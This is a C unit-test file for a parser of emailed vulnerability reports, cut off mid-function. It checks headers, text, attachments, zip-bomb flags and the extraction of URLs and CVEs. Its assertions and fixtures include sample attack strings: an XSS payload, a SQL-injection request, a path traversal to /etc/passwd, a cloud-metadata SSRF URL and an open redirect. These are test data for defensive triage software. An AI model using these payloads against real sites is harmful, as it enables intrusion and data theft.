/*++
/* NAME
/*	test_parser 1
/* SUMMARY
/*	unit tests of parser/: report_parse_*(), report_extract(), HTML text
/* SYNOPSIS
/*	tests/unit/test_parser
/* DESCRIPTION
/*	Each test parses a fixture of tests/data (TEST_DATA_DIR) and checks
/*	what a user of the report would see: header fields, text,
/*	attachments with their digests, flags and extracted indicators.
/*	Hostile inputs (garbage, deep nesting, the GMime 3.2.13 boundary
/*	loop) run under alarm(): a hang fails the test instead of the run.
/* DIAGNOSTICS
/*	TAP through cmocka (CMOCKA_MESSAGE_OUTPUT=TAP).
/*--*/

/* System library. */

#include <sys/types.h>
#include <sys/wait.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

/* Application-specific. */

#include "util/util.h"
#include "parser/report.h"

#ifndef TEST_DATA_DIR
#define TEST_DATA_DIR "tests/data"
#endif

#define HANG_SECONDS	20

/* parse_with - parse a fixture with the given limits (NULL = defaults) */

static void parse_with(const char *name, const struct report_limits *lim,
		               struct report *rep)
{
    char    path[1024];

    snprintf(path, sizeof(path), "%s/%s", TEST_DATA_DIR, name);
    alarm(HANG_SECONDS);
    assert_int_equal(report_parse_file(path, lim, rep), 0);
    alarm(0);

    /* Every report, whatever the input, carries valid UTF-8 text. */
    assert_true(sm_utf8_valid(sbuf_str(&rep->text), rep->text.len));
    assert_int_equal(strlen(sbuf_str(&rep->text)), rep->text.len);
}

static void parse(const char *name, struct report *rep)
{
    parse_with(name, NULL, rep);
}

static int has_text(const struct report *rep, const char *needle)
{
    return (strstr(sbuf_str(&rep->text), needle) != NULL);
}

static off_t file_size(const char *name)
{
    char    path[1024];
    FILE   *fp;
    long    n;

    snprintf(path, sizeof(path), "%s/%s", TEST_DATA_DIR, name);
    assert_non_null(fp = fopen(path, "rb"));
    fseek(fp, 0, SEEK_END);
    n = ftell(fp);
    fclose(fp);
    return ((off_t) n);
}

/* ------------------------------------------------------------ headers */

static void test_report_xss(void **state)
{
    struct report r;

    parse("report_xss.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.bytes, file_size("report_xss.eml"));
    assert_string_equal(r.from_addr, "alice.researcher@example.org");
    assert_string_equal(r.from_name, "Alice Researcher");
    assert_string_equal(r.subject,
		"Stored XSS in profile \"About me\" field on app.example.com");
    assert_string_equal(r.message_id, "<20260310091238.GA4242@mail.example.org>");
    assert_string_equal(r.return_path, "<alice.researcher@example.org>");
    assert_null(r.in_reply_to);
    assert_null(r.auto_submitted);
    assert_int_equal(r.references.n, 0);
    assert_int_equal(r.spoofed_headers, 0);
    assert_int_equal(r.has_list_headers, 0);
    assert_int_equal(r.auth_results.n, 1);
    assert_non_null(strstr(r.auth_results.v[0], "dkim=pass header.d=example.org"));
    assert_non_null(strstr(r.auth_results.v[0], "spf=pass"));
    assert_null(strchr(r.auth_results.v[0], '\n'));

    /* Text as written: impact, numbered steps, the payload. */
    assert_true(has_text(&r, "Impact: an attacker can run JavaScript"));
    assert_true(has_text(&r, "\n1. Log in to https://app.example.com"));
    assert_true(has_text(&r, "\"><img src=x onerror=alert(document.domain)>"));
    assert_true(has_text(&r, "good faith \xe2\x80\x94 thanks"));
    assert_int_equal(r.n_attachments, 0);

    /* Extraction. */
    assert_true(strlist_contains(&r.urls, "https://app.example.com/settings/profile"));
    assert_true(strlist_contains(&r.urls, "https://app.example.com/u/alice"));
    assert_int_equal(r.cvss_vectors.n, 1);
    assert_string_equal(r.cvss_vectors.v[0], "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N");
    assert_int_equal(r.cves.n, 0);
    report_free(&r);
}

static void test_encoded_words(void **state)
{
    struct report r;

    parse("encoded_words.eml", &r);
    assert_string_equal(r.from_name, "J\xc3\xbcrgen M\xc3\xbcller");
    assert_string_equal(r.from_addr, "juergen@example.de");
    assert_string_equal(r.subject, "Sicherheitsl\xc3\xbc" "cke im Login \xc3\xbc" "ber "
			"\xf0\x9f\x90\x9e Open Redirect");
    assert_true(has_text(&r, "Gr\xc3\xbc\xc3\x9f" "e, the login page"));
    assert_true(has_text(&r, "?next=."));
    report_free(&r);
}

static void test_autoreply(void **state)
{
    struct report r;

    parse("autoreply.eml", &r);
    assert_string_equal(r.auto_submitted, "auto-replied");
    assert_string_equal(r.precedence, "bulk");
    assert_string_equal(r.return_path, "<>");
    assert_int_equal(r.has_autoreply_headers, 1);
    assert_int_equal(r.has_list_headers, 1);
    assert_string_equal(r.in_reply_to, "<ack-42@security.example.com>");
    assert_int_equal(r.references.n, 2);
    assert_string_equal(r.references.v[0], "<20260310091238.GA4242@mail.example.org>");
    assert_string_equal(r.references.v[1], "<ack-42@security.example.com>");
    report_free(&r);
}

static void test_forged_headers(void **state)
{
    struct report r;

    parse("forged_headers.eml", &r);
    assert_int_equal(r.spoofed_headers, 3);
    assert_string_equal(r.subject, "[SEC-2026-0001] please prioritise");
    report_free(&r);
}

/* --------------------------------------------------------------- text */

static void test_html_outlook(void **state)
{
    struct report r;

    parse("html_outlook.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.n_attachments, 0);
    assert_true(has_text(&r, "Hi team,"));
    assert_true(has_text(&r, "the search page (https://shop.example.com/search?q=1&sort=price)"));
    assert_true(has_text(&r, "1. Open the search page\n2. Set sort to price'--\n3. Observe"));
    assert_true(has_text(&r, "GET /search?q=1&sort=price'-- HTTP/1.1\nHost: shop.example.com"));
    assert_true(has_text(&r, "Bob <bob@example.net>"));
    assert_true(has_text(&r, "query \xe2\x80\x94 see below"));
    assert_false(has_text(&r, "hidden"));
    assert_false(has_text(&r, "MsoNormal"));
    assert_false(has_text(&r, "comment"));
    assert_false(has_text(&r, "<p"));
    assert_true(strlist_contains(&r.urls, "https://shop.example.com/search?q=1&sort=price"));
    report_free(&r);
}

static void test_alternative(void **state)
{
    struct report r;

    parse("alternative.eml", &r);
    assert_true(has_text(&r, "has no CSRF token. PLAINMARKER"));
    assert_false(has_text(&r, "HTMLMARKER"));
    report_free(&r);

    parse("alternative_empty_plain.eml", &r);
    assert_true(has_text(&r, "Only the HTML part has words. HTMLONLY"));
    report_free(&r);
}

static void test_latin1(void **state)
{
    struct report r;

    parse("latin1.eml", &r);
    assert_string_equal(r.subject, "Faille de s\xc3\xa9" "curit\xc3\xa9");
    assert_string_equal(r.from_name, "Fran\xc3\xa7ois");
    /* iso-8859-1 as labelled, with windows-1252 quotes and euro. */
    assert_true(has_text(&r, "voil\xc3\xa0 la faille: \xe2\x80\x9cquoted\xe2\x80\x9d "
			 "\xe2\x82\xac caf\xc3\xa9."));
    /* windows-1252 through iconv. */
    assert_true(has_text(&r, "\xe2\x80\x9csmart\xe2\x80\x9d na\xc3\xafve."));
    /* An unknown charset is no error; NUL and controls are gone. */
    assert_true(has_text(&r, "Unknown charset: d\xc3\xa9j\xc3\xa0 vu nulctl."));
    report_free(&r);
}

static void test_chunk_boundaries(void **state)
{
    char    path[] = "/tmp/test_parser_XXXXXX";
    const char *hdr = "From: a@example.com\nSubject: euro\n"
	"Content-Type: text/plain; charset=utf-8\n\n";
    struct report r;
    FILE   *fp;
    int     fd;

    /*
     * 3000 three-byte characters: the 4 KiB decode chunks split some.
     */
    assert_true((fd = mkstemp(path)) >= 0);
    assert_non_null(fp = fdopen(fd, "w"));
    fputs(hdr, fp);
    for (int i = 0; i < 3000; i++)
	fputs("\xe2\x82\xac", fp);
    fputs("\n", fp);
    fclose(fp);
    assert_int_equal(report_parse_file(path, NULL, &r), 0);
    unlink(path);
    assert_int_equal(r.text.len, 9001);
    for (size_t i = 0; i < 9000; i += 3)
	assert_memory_equal(r.text.data + i, "\xe2\x82\xac", 3);
    report_free(&r);
}

/* ------------------------------------------------------- structure */

static void test_attachment_poc(void **state)
{
    struct report r;

    parse("attachment_poc.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.n_attachments, 2);
    assert_string_equal(r.attachments[0].filename, "poc.py");
    assert_string_equal(r.attachments[0].content_type, "text/x-python");
    assert_int_equal(r.attachments[0].size, 196);
    assert_string_equal(r.attachments[0].sha256,
	   "79866c55838b54224462a45f2c44266cb084f696d9864eeae4816399bec0bf97");
    /* RFC 2231 file name, decoded. */
    assert_string_equal(r.attachments[1].filename, "tr\xc3\xa4" "ce.bin");
    assert_string_equal(r.attachments[1].content_type, "application/octet-stream");
    assert_int_equal(r.attachments[1].size, 10247);
    assert_string_equal(r.attachments[1].sha256,
	   "d6a3ba658398a96c2ebd3079e28c85dd4f08a59d8bb7513a95ab690717b2006b");
    /* The PoC source is text for the classifier too; the binary is not. */
    assert_true(has_text(&r, "PoC attached."));
    assert_true(has_text(&r, "[attachment: poc.py]\n#!/usr/bin/env python3\nimport requests"));
    assert_false(has_text(&r, "PK"));
    assert_true(strlist_contains(&r.urls, "http://169.254.169.254/latest/meta-data/"));
    report_free(&r);
}

static void test_forwarded(void **state)
{
    struct report r;

    parse("forwarded.eml", &r);
    assert_true(r.flags & REPORT_F_FORWARDED);
    /* One line of the forwarder's: the inner report is the report. */
    assert_string_equal(r.subject, "Path traversal in download endpoint");
    assert_string_equal(r.from_addr, "finder@example.net");
    assert_string_equal(r.forwarded_by.addr, "erin@example.com");
    assert_string_equal(r.message_id, "<fwd-1@example.com>");
    assert_true(has_text(&r, "Forwarding this report"));
    assert_true(has_text(&r, "From: Mallory Finder <finder@example.net>\n"
			 "Subject: Path traversal in download endpoint\n"));
    assert_true(has_text(&r, "the password file. INNERMARKER"));
    assert_true(strlist_contains(&r.urls,
		 "https://files.example.com/download?file=../../../../etc/passwd"));
    report_free(&r);
}

static void test_dsn(void **state)
{
    struct report r;

    parse("dsn.eml", &r);
    assert_true(r.flags & REPORT_F_DSN);
    assert_false(r.flags & REPORT_F_MALFORMED);
    assert_string_equal(r.auto_submitted, "auto-replied");
    assert_string_equal(r.return_path, "<>");
    assert_int_equal(r.n_attachments, 0);
    assert_true(has_text(&r, "could not\nbe delivered"));
    assert_true(has_text(&r, "Status: 5.1.1"));
    assert_true(has_text(&r, "Message-ID: <ack-42@security.example.com>"));
    report_free(&r);
}

static void test_encrypted_signed(void **state)
{
    struct report r;

    parse("encrypted.eml", &r);
    assert_true(r.flags & REPORT_F_ENCRYPTED);
    assert_int_equal(r.text.len, 0);
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);

    parse("signed.eml", &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_false(r.flags & REPORT_F_ENCRYPTED);
    assert_true(has_text(&r, "SIGNEDMARKER"));
    assert_false(has_text(&r, "BEGIN PGP SIGNATURE"));
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);
}

/* -------------------------------------------------------- bad input */

static void test_deep_nesting(void **state)
{
    struct report_limits lim;
    struct report r;

    /* Past the default depth (20): flagged, the deepest text unread. */
    parse("deep_nesting.eml", &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_false(has_text(&r, "DEEPEST TEXT"));
    assert_string_equal(r.subject, "deep");
    report_free(&r);

    /* Within a larger limit the same message reads fine. */
    report_limits_from_config(&lim, NULL);
    lim.max_mime_depth = 100;
    parse_with("deep_nesting.eml", &lim, &r);
    assert_true(has_text(&r, "DEEPEST TEXT"));
    assert_false(r.flags & REPORT_F_OVERSIZE);
    report_free(&r);
}

static void test_missing_boundary(void **state)
{
    struct report r;

    parse("missing_boundary.eml", &r);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_true(has_text(&r, "The first part is fine. TRUNCMARKER"));
    assert_int_equal(r.n_attachments, 1);
    assert_string_equal(r.attachments[0].filename, "half.bin");
    report_free(&r);
}

static void test_garbage_and_empty(void **state)
{
    struct report r;

    parse("garbage.bin", &r);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_int_equal(r.bytes, 4096);
    report_free(&r);

    parse("empty.eml", &r);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_int_equal(r.bytes, 0);
    assert_int_equal(r.text.len, 0);
    assert_null(r.subject);
    assert_null(r.from_addr);
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);
}

static void test_boundary_loop(void **state)
{
    struct report r;

    /*
     * gmime issue 165: this Content-Type makes
     * g_mime_multipart_get_boundary() loop forever in 3.2.13. The
     * parse must finish (alarm() in parse_with) and keep the headers.
     */
    parse("boundary_loop.eml", &r);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_string_equal(r.from_addr, "fuzz@example.com");
    assert_string_equal(r.subject, "fuzz");
    report_free(&r);
}

static void test_content_type_no_subtype(void **state)
{
    struct report r;

    /*
     * RFC 2045 5.2: "Content-Type: text" is invalid and means text/plain.
     * The body is text to read, not an attachment (CPython agrees).
     */
    parse("content_type_no_subtype.eml", &r);
    assert_int_equal(r.n_attachments, 0);
    assert_non_null(strstr(sbuf_str(&r.text), "next= parameter"));
    assert_true(strlist_contains(&r.urls, "https://app.example.com/login?next=https://evil.example.net"));
    report_free(&r);
}

static void test_unreadable(void **state)
{
    struct report r;

    errno = 0;
    assert_int_equal(report_parse_file(TEST_DATA_DIR "/no-such-file.eml", NULL, &r), -1);
    assert_int_equal(errno, ENOENT);
    assert_int_equal(report_parse_fd(-1, NULL, &r), -1);
}

/* ------------------------------------------------------------ limits */

static void test_limits(void **state)
{
    struct report_limits lim;
    struct report r;

    /* Text: cut at the bound, on a character boundary. */
    report_limits_from_config(&lim, NULL);
    lim.max_text_bytes = 100;
    parse_with("report_xss.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_true(r.text.len <= 100 && r.text.len > 90);
    assert_string_equal(r.subject,
		"Stored XSS in profile \"About me\" field on app.example.com");
    report_free(&r);

    lim.max_text_bytes = 3;			/* "Gr\xc3\xbc" would split */
    parse_with("encoded_words.eml", &lim, &r);
    assert_string_equal(sbuf_str(&r.text), "Gr");
    assert_true(r.flags & REPORT_F_OVERSIZE);
    report_free(&r);

    /* Message bytes: the headers are read, the rest is cut. */
    report_limits_from_config(&lim, NULL);
    lim.max_message_bytes = 600;
    parse_with("attachment_poc.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_int_equal(r.bytes, file_size("attachment_poc.eml"));
    assert_string_equal(r.subject, "SSRF in webhook configuration");
    assert_true(r.n_attachments <= 1);
    report_free(&r);

    /* Attachment count. */
    report_limits_from_config(&lim, NULL);
    lim.max_attachments = 1;
    parse_with("attachment_poc.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_int_equal(r.n_attachments, 1);
    report_free(&r);

    /* Part count: the root and the first leaf only. */
    report_limits_from_config(&lim, NULL);
    lim.max_mime_parts = 2;
    parse_with("attachment_poc.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_int_equal(r.n_attachments, 0);
    assert_true(has_text(&r, "PoC attached."));
    report_free(&r);

    /* Header bytes. */
    report_limits_from_config(&lim, NULL);
    lim.max_header_bytes = 10;
    parse_with("report_xss.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_string_equal(r.subject, "Stored XSS");
    report_free(&r);
}

static void test_limits_from_config(void **state)
{
    struct report_limits lim;
    struct sm_config cfg;

    report_limits_from_config(&lim, NULL);
    assert_int_equal(lim.max_message_bytes, SM_DEF_MAX_MESSAGE_BYTES);
    assert_int_equal(lim.max_text_bytes, SM_DEF_MAX_TEXT_BYTES);
    assert_int_equal(lim.max_header_bytes, SM_DEF_MAX_HEADER_BYTES);
    assert_int_equal(lim.max_mime_depth, SM_DEF_MAX_MIME_DEPTH);
    assert_int_equal(lim.max_mime_parts, SM_DEF_MAX_MIME_PARTS);
    assert_int_equal(lim.max_attachments, SM_DEF_MAX_ATTACHMENTS);

    memset(&cfg, 0, sizeof(cfg));
    cfg.max_message_bytes = 1001;
    cfg.max_text_bytes = 1002;
    cfg.max_header_bytes = 1003;
    cfg.max_mime_depth = 4;
    cfg.max_mime_parts = 5;
    cfg.max_attachments = 6;
    report_limits_from_config(&lim, &cfg);
    assert_int_equal(lim.max_message_bytes, 1001);
    assert_int_equal(lim.max_text_bytes, 1002);
    assert_int_equal(lim.max_header_bytes, 1003);
    assert_int_equal(lim.max_mime_depth, 4);
    assert_int_equal(lim.max_mime_parts, 5);
    assert_int_equal(lim.max_attachments, 6);
}

static void test_pipe(void **state)
{
    char    path[1024], buf[4096];
    struct report r;
    int     p[2], in;
    ssize_t n;
    pid_t   pid;

    /*
     * secmilter -t - reads standard input: a descriptor that cannot seek.
     */
    snprintf(path, sizeof(path), "%s/attachment_poc.eml", TEST_DATA_DIR);
    assert_int_equal(pipe(p), 0);
    assert_true((pid = fork()) >= 0);
    if (pid == 0) {
	close(p[0]);
	if ((in = open(path, O_RDONLY)) < 0)
	    _exit(1);
	while ((n = read(in, buf, sizeof(buf))) > 0)
	    if (write(p[1], buf, (size_t) n) != n)
		_exit(1);
	_exit(0);
    }
    close(p[1]);
    alarm(HANG_SECONDS);
    assert_int_equal(report_parse_fd(p[0], NULL, &r), 0);
    alarm(0);
    close(p[0]);
    waitpid(pid, NULL, 0);
    assert_int_equal(r.bytes, file_size("attachment_poc.eml"));
    assert_string_equal(r.subject, "SSRF in webhook configuration");
    assert_int_equal(r.n_attachments, 2);
    assert_string_equal(r.attachments[1].sha256,
	   "d6a3ba658398a96c2ebd3079e28c85dd4f08a59d8bb7513a95ab690717b2006b");
    report_free(&r);
}

static void test_report_free(void **state)
{
    struct report r;

    memset(&r, 0, sizeof(r));
    report_free(&r);
    parse("report_xss.eml", &r);
    report_free(&r);
    report_free(&r);
    report_free(NULL);
}

/* --------------------------------------------------------- extraction */

static void test_defanged_urls(void **state)
{
    static const char *want[] = {
	"https://evil.example.net/kit",		/* from the subject */
	"http://login-example.com/verify.php?id=1",
	"http://cdn.bad.example/x.js",
	"https://docs.example.com/a_(b)_c",
	"https://www.example.com/path?x=1",
	"https://md.example.org/p",
	"https://t.example.com/end",
	"https://q.example.com/quoted",
    };
    struct report r;

    parse("defanged.eml", &r);
    assert_int_equal(r.urls.n, sizeof(want) / sizeof(want[0]));
    for (size_t i = 0; i < r.urls.n; i++)
	assert_string_equal(r.urls.v[i], want[i]);
    report_free(&r);
}

static void test_cve_cvss(void **state)
{
    struct report r;

    parse("cve_cvss.eml", &r);
    assert_int_equal(r.cves.n, 3);
    assert_string_equal(r.cves.v[0], "CVE-2024-3094");
    assert_string_equal(r.cves.v[1], "CVE-2021-44228");
    assert_string_equal(r.cves.v[2], "CVE-2023-1234567");
    assert_int_equal(r.cvss_vectors.n, 2);
    assert_string_equal(r.cvss_vectors.v[0],
			"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
    assert_string_equal(r.cvss_vectors.v[1],
	   "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N");
    report_free(&r);
}

static void test_extract_bounds(void **state)
{
    struct report r;
    char   *big;
    size_t  n = 0;

    /*
     * 300 distinct URLs and one of 5000 bytes: 200 kept, none longer
     * than 2048 bytes, and the report says it cut.
     */
    memset(&r, 0, sizeof(r));
    sbuf_init(&r.text, 1 << 20);
    assert_non_null(big = malloc(6000));
    for (int i = 0; i < 300; i++)
	sbuf_printf(&r.text, "see https://h%d.example.com/x, ", i);
    memcpy(big, "https://long.example.com/", 25);
    memset(big + 25, 'a', 5000);
    big[5025] = 0;
    sbuf_puts(&r.text, big);
    report_extract(&r);
    assert_int_equal(r.urls.n, 200);
    assert_string_equal(r.urls.v[0], "https://h0.example.com/x");
    for (size_t i = 0; i < r.urls.n; i++)
	n = strlen(r.urls.v[i]) > n ? strlen(r.urls.v[i]) : n;
    assert_true(n <= 2048);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    free(big);
    report_free(&r);
}

/* ---------------------------------------------------------------- HTML */

static int sink(void *arg, const char *s, size_t n)
{
    return (sbuf_append(arg, s, n));
}

static void html_convert(const char *html, size_t step, struct sbuf *out)
{
    struct report_html *h;
    size_t  len = strlen(html);

    sbuf_init(out, 1 << 16);
    assert_non_null(h = report_html_new(sink, out));
    for (size_t i = 0; i < len; i += step)
	report_html_feed(h, html + i, len - i < step ? len - i : step);
    report_html_finish(h);
}

static void test_html_convert(void **state)
{
    const char *html = "<html><head><title>t</title><style>a{}</style>"
	"<SCRIPT type=x>if (a<b && c>d) x('</scr'+'ipt>');</SCRIPT></head>"
	"<body><!-- <p>hidden</p> -->"
	"<p>XSS via <code>&lt;svg onload&#x3d;alert(1)&gt;</code> &amp; "
	"<a href=\"javascript&colon;alert(1)\">click</a>, "
	"<a href='https://a.example/'>https://a.example/</a>, a &unknown; "
	"entity, 1 < 2.</p><pre>  keep\n    indent</pre><ul><li>one<li>two</ul>"
	"</body></html>";
    const char *want = "t\n\n"
	"XSS via <svg onload=alert(1)> & click (javascript:alert(1)), "
	"https://a.example/, a &unknown; entity, 1 < 2.\n\n"
	"  keep\n    indent\n- one\n- two";
    struct sbuf a, b;

    /* Whole, and one byte at a time: the same text. */
    html_convert(html, strlen(html), &a);
    html_convert(html, 1, &b);
    assert_string_equal(sbuf_str(&a), want);
    assert_string_equal(sbuf_str(&b), want);
    sbuf_free(&a);
    sbuf_free(&b);
}

/* -------------------------------------------------------- attachments */

/* find_att - the attachment of that file name; fails the test if none */

static const struct report_attachment *find_att(const struct report *rep,
						        const char *filename)
{
    for (size_t i = 0; i < rep->n_attachments; i++)
	if (strcmp(rep->attachments[i].filename, filename) == 0)
	    return (rep->attachments + i);
    fail_msg("no attachment %s", filename);
    return (NULL);
}

static void assert_sniffed(const struct report_attachment *a, const char *type,
			           int mismatch)
{
    if (type == NULL)
	assert_null(a->sniffed_type);
    else {
	assert_non_null(a->sniffed_type);
	assert_string_equal(a->sniffed_type, type);
    }
    assert_int_equal(a->type_mismatch, mismatch);
}

static void test_attach_types(void **state)
{
    struct report r;

    parse("att_types.eml", &r);
    assert_int_equal(r.n_attachments, 8);
    assert_true(r.flags & REPORT_F_TYPE_MISMATCH);
    assert_false(r.flags & (REPORT_F_ZIP_BOMB | REPORT_F_MALFORMED));

    /* As declared: no mismatch. */
    assert_sniffed(find_att(&r, "screenshot.png"), "image/png", 0);
    assert_null(find_att(&r, "screenshot.png")->zip);
    assert_null(find_att(&r, "screenshot.png")->stored);

    /* An executable or a page under an image label; a PE as text. */
    assert_sniffed(find_att(&r, "photo.png"), "application/x-executable", 1);
    assert_sniffed(find_att(&r, "image.png"), "text/html", 1);
    assert_sniffed(find_att(&r, "notes.txt"), "application/x-dosexec", 1);

    /* octet-stream says nothing; text/* against text/* is no news. */
    assert_sniffed(find_att(&r, "blob.bin"), "application/x-executable", 0);
    assert_sniffed(find_att(&r, "poc.html"), "text/html", 0);
    assert_sniffed(find_att(&r, "run.sh"), "text/x-shellscript", 0);
    assert_sniffed(find_att(&r, "exploit"), "text/x-python", 0);
    report_free(&r);

    /* A report without attachments is not flagged. */
    parse("report_xss.eml", &r);
    assert_false(r.flags & REPORT_F_TYPE_MISMATCH);
    report_free(&r);
}

static void test_attach_capture(void **state)
{
    struct report r;

    parse("att_capture.eml", &r);
    assert_int_equal(r.n_attachments, 3);
    assert_sniffed(find_att(&r, "traffic.pcap"), "application/vnd.tcpdump.pcap", 0);
    assert_sniffed(find_att(&r, "traffic.pcapng"), "application/x-pcapng", 0);
    assert_sniffed(find_att(&r, "session.har"), "application/har+json", 0);
    assert_int_equal(find_att(&r, "traffic.pcap")->size, 24 + 16 + 4);
    assert_false(r.flags & REPORT_F_TYPE_MISMATCH);
    report_free(&r);
}

static void test_attach_zip(void **state)
{
    const struct report_attachment *a;
    struct report r;

    parse("att_zip.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.n_attachments, 4);

    /* The listing, as the central directory claims it. */
    a = find_att(&r, "poc.zip");
    assert_sniffed(a, "application/zip", 0);
    assert_non_null(a->zip);
    assert_int_equal(a->zip->entries, 3);
    assert_int_equal(a->zip->n_members, 3);
    assert_string_equal(a->zip->members[0].name, "poc/exploit.py");
    assert_int_equal(a->zip->members[0].size, 260);
    assert_string_equal(a->zip->members[1].name, "README.txt");
    assert_int_equal(a->zip->members[1].size, 32);
    assert_string_equal(a->zip->members[2].name, "data/empty.bin");
    assert_int_equal(a->zip->members[2].size, 0);
    assert_int_equal(a->zip->uncompressed, 292);
    assert_int_equal(a->zip->compressed, 31 + 34 + 2);
    assert_int_equal(a->zip->bomb, 0);
    assert_int_equal(a->zip->encrypted, 0);

    /* OOXML from its listing; Office labels accept any zip or OLE2. */
    a = find_att(&r, "report.docx");
    assert_sniffed(a, "application/vnd.openxmlformats-officedocument."
		   "wordprocessingml.document", 0);
    assert_int_equal(a->zip->entries, 3);
    assert_sniffed(find_att(&r, "report-old.doc"), a->sniffed_type, 0);

    /* The same archive behind a ZIP64 end record. */
    a = find_att(&r, "poc64.zip");
    assert_non_null(a->zip);
    assert_int_equal(a->zip->entries, 3);
    assert_int_equal(a->zip->uncompressed, 292);
    assert_string_equal(a->zip->members[2].name, "data/empty.bin");
    report_free(&r);
}

static void test_attach_zip_limits(void **state)
{
    struct report_limits lim;
    struct report r;

    /* More members than max_zip_entries: a bomb, listing cut short. */
    report_limits_from_config(&lim, NULL);
    lim.max_zip_entries = 2;
    parse_with("att_zip.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_ZIP_BOMB);
    assert_true(find_att(&r, "poc.zip")->zip->bomb);
    assert_int_equal(find_att(&r, "poc.zip")->zip->entries, 3);
    report_free(&r);

    /* max_part_bytes: the digest of the bytes read, no listing. */
    report_limits_from_config(&lim, NULL);
    lim.max_part_bytes = 100;
    parse_with("att_zip.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_int_equal(find_att(&r, "poc.zip")->size, 100);
    assert_null(find_att(&r, "poc.zip")->zip);
    assert_sniffed(find_att(&r, "poc.zip"), "application/zip", 0);
    assert_false(r.flags & REPORT_F_MALFORMED);
    report_free(&r);
}

static void test_attach_zipbomb(void **state)
{
    const struct report_attachment *a;
    struct report r;

    parse("att_zipbomb.eml", &r);
    assert_true(r.flags & REPORT_F_ZIP_BOMB);

    /* 50 MiB of zeros claimed from 50 KiB: a ratio of about 1000. */
    a = find_att(&r, "zeros.zip");
    assert_non_null(a->zip);
    assert_int_equal(a->zip->entries, 1);
    assert_int_equal(a->zip->uncompressed, 50 * 1024 * 1024);
    assert_true(a->zip->compressed < 60 * 1024);
    assert_int_equal(a->zip->bomb, 1);
    assert_string_equal(a->zip->members[0].name, "zeros.bin");

    /* Two members on the same bytes. */
    a = find_att(&r, "overlap.zip");
    assert_int_equal(a->zip->entries, 2);
    assert_int_equal(a->zip->bomb, 1);
    report_free(&r);
}

static void test_attach_zip_corrupt(void **state)
{
    const struct report_attachment *a;
    struct report r;

    parse("att_zip_corrupt.eml", &r);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_int_equal(r.n_attachments, 3);

    /* No end record: no listing. */
    a = find_att(&r, "cut.zip");
    assert_sniffed(a, "application/zip", 0);
    assert_null(a->zip);

    /* A bad entry: what came before it. */
    a = find_att(&r, "badsig.zip");
    assert_non_null(a->zip);
    assert_int_equal(a->zip->entries, 1);
    assert_string_equal(a->zip->members[0].name, "poc/exploit.py");

    /* A directory longer than the file: nothing listed. */
    a = find_att(&r, "hugecd.zip");
    assert_non_null(a->zip);
    assert_int_equal(a->zip->entries, 0);
    assert_int_equal(a->zip->bomb, 0);
    report_free(&r);
}

/* b64_put - base64 lines of 76 characters */

static void b64_put(FILE *fp, const unsigned char *p, size_t n)
{
    static const char al[] =
	"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t  col = 0;

    for (size_t i = 0; i < n; i += 3) {
	unsigned v = (unsigned) p[i] << 16 | (i + 1 < n ? (unsigned) p[i + 1] << 8 : 0)
	    | (i + 2 < n ? p[i + 2] : 0);

	fputc(al[v >> 18 & 63], fp);
	fputc(al[v >> 12 & 63], fp);
	fputc(i + 1 < n ? al[v >> 6 & 63] : '=', fp);
	fputc(i + 2 < n ? al[v & 63] : '=', fp);
	if ((col += 4) >= 76) {
	    fputc('\n', fp);
	    col = 0;
	}
    }
    fputc('\n', fp);
}

static void put16(unsigned char *p, unsigned v)
{
    p[0] = (unsigned char) v, p[1] = (unsigned char) (v >> 8);
}

static void put32(unsigned char *p, unsigned long v)
{
    put16(p, v & 0xFFFF);
    put16(p + 2, (v >> 16) & 0xFFFF);
}

static void test_attach_zip_wide(void **state)
{
    enum {
	N = 2000, NAME = 200, LFH = 30, CDE = 46,
    };
    size_t  size = (size_t) N * (LFH + NAME + CDE + NAME) + 22, pos = 0, cd;
    unsigned char *z = calloc(1, size);
    char    path[] = "/tmp/test_parser_XXXXXX", name[NAME + 16];
    const struct report_attachment *a;
    struct report_limits lim;
    struct report r;
    FILE   *fp;
    int     fd;

    /*
     * N empty stored members with long names: a central directory of
     * about 500 KiB, more than the scan keeps.
     */
    assert_non_null(z);
    for (int i = 0; i < N; i++) {
	snprintf(name, sizeof(name), "%05d-%0194d", i, 0);
	put32(z + pos, 0x04034b50);
	put16(z + pos + 26, NAME);
	memcpy(z + pos + LFH, name, NAME);
	pos += LFH + NAME;
    }
    cd = pos;
    for (int i = 0; i < N; i++) {
	snprintf(name, sizeof(name), "%05d-%0194d", i, 0);
	put32(z + pos, 0x02014b50);
	put16(z + pos + 28, NAME);
	put32(z + pos + 42, (unsigned long) i * (LFH + NAME));
